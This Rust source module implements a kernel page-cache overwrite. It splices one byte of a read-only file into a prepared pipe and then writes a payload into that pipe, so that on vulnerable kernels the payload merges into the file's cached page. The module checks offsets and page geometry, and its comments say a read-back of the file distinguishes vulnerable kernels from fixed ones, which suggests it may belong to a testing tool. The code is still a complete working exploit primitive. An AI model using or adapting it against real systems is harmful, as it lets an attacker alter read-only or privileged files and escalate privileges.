//! The page-cache overwrite attempt.
//!
//! Sequence, after validation: open the target read-only, prime a pipe,
//! splice the single byte just before the target offset from the file into
//! the pipe, then write the payload into the pipe. On a kernel that lets
//! spliced buffers inherit stale mergeable flags, that write merges into the
//! file's cached page instead of opening a fresh buffer, and the change
//! shows up in the file itself. On a fixed kernel the same sequence succeeds
//! harmlessly.
//!
//! The caller learns nothing from the syscalls about which of the two
//! happened; it must read the file back and compare.

use std::path::Path;

use crate::error::WriteError;
use crate::io::{KernelIo, ScopedFd};
use crate::page::{is_boundary, next_boundary};
use crate::pipe::PreparedPipe;

/// One overwrite request: replace `payload.len()` bytes at `offset`.
#[derive(Debug, Clone, Copy)]
pub struct WriteRequest<'a> {
    /// File offset of the first byte to replace. Must not sit on a page
    /// boundary: the byte before it seeds the pipe.
    pub offset: u64,
    /// Replacement bytes. Must fit inside the page `offset` points into.
    pub payload: &'a [u8],
}

impl WriteRequest<'_> {
    /// Offset one past the last byte the request touches.
    #[must_use]
    pub fn end_offset(&self) -> u64 {
        self.offset.saturating_add(self.payload.len() as u64)
    }

    /// Checks that need only the page size, in reporting order.
    pub fn check_geometry(&self, page_size: u64) -> Result<(), WriteError> {
        if is_boundary(self.offset, page_size) {
            return Err(WriteError::PageBoundaryOffset {
                offset: self.offset,
                page_size,
            });
        }
        let next_boundary = next_boundary(self.offset, page_size);
        if self.end_offset() > next_boundary {
            return Err(WriteError::CrossesPageBoundary {
                offset: self.offset,
                len: self.payload.len(),
                next_boundary,
            });
        }
        if self.payload.is_empty() {
            return Err(WriteError::EmptyPayload);
        }
        Ok(())
    }

    /// Checks that need the target's size.
    pub fn check_bounds(&self, size: u64) -> Result<(), WriteError> {
        if self.offset >= size {
            return Err(WriteError::OffsetOutOfRange {
                offset: self.offset,
                size,
            });
        }
        if self.end_offset() > size {
            return Err(WriteError::WouldGrowFile {
                end_offset: self.end_offset(),
                size,
            });
        }
        Ok(())
    }
}

/// Run the full overwrite sequence against `path`.
///
/// `Ok(())` means every syscall succeeded, not that the file changed; only a
/// read-back tells the two kernels apart. Validation runs before any pipe or
/// file state is created beyond the read-only open, in a fixed order, so
/// equal inputs always report the same error.
pub fn attempt_overwrite<P: KernelIo + ?Sized>(
    io: &P,
    path: &Path,
    request: WriteRequest<'_>,
) -> Result<(), WriteError> {
    let page_size = io.page_size().max(1);
    request.check_geometry(page_size)?;

    let file = ScopedFd::new(
        io,
        io.open_readonly(path).map_err(|errno| WriteError::OpenFailed {
            path: path.to_path_buf(),
            errno,
        })?,
    );
    let size = io
        .file_size(file.get())
        .map_err(|errno| WriteError::StatFailed { errno })?;
    request.check_bounds(size)?;

    // Geometry rejected boundary offsets, so offset - 1 cannot underflow.
    let seed_offset =
        i64::try_from(request.offset - 1).map_err(|_| WriteError::OffsetOutOfRange {
            offset: request.offset,
            size,
        })?;

    let pipe = PreparedPipe::prepare(io)?;

    // The byte just before the write target seeds the pipe with a buffer
    // referencing the target's page.
    let mut cursor = seed_offset;
    match io.splice_to_pipe(file.get(), &mut cursor, pipe.writer_fd(), 1) {
        Err(errno) => return Err(WriteError::SpliceFailed { errno }),
        Ok(0) => return Err(WriteError::ShortSplice),
        Ok(_) => debug_assert_eq!(cursor, seed_offset + 1),
    }

    let written = io
        .write(pipe.writer_fd(), request.payload)
        .map_err(|errno| WriteError::WriteFailed { errno })?;
    if written < request.payload.len() {
        return Err(WriteError::ShortWrite {
            written,
            expected: request.payload.len(),
        });
    }
    Ok(())
}
